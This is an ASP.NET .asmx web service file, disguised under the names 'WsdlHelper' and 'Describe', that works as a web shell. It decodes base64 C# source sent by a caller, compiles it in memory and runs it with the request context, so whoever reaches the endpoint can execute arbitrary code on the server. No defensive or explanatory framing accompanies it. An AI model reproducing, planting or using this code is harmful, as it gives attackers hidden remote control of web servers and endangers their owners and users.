<%@ WebService Language="C#" Class="WsdlHelper" %>
using System;
using System.Web.Services;
using System.CodeDom.Compiler;
using System.Reflection;

[WebService(Namespace = "http://tempuri.org/")]
public class WsdlHelper : WebService
{
    [WebMethod]
    public string Describe(string t, string s)
    {
        // t = type to build, s = base64 source
        string src = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(s));
        CodeDomProvider cp = CodeDomProvider.CreateProvider("CSharp");
        CompilerParameters prm = new CompilerParameters(new string[] { "System.dll", "System.Web.dll", "System.Data.dll" });
        prm.GenerateInMemory = true;
        CompilerResults cr = cp.CompileAssemblyFromSource(prm, src);
        if (cr.Errors.Count > 0) return cr.Errors[0].ErrorText;
        object o = cr.CompiledAssembly.CreateInstance(t);
        return Convert.ToString(o.GetType().GetMethod("Run").Invoke(o, new object[] { Context }));
    }
}
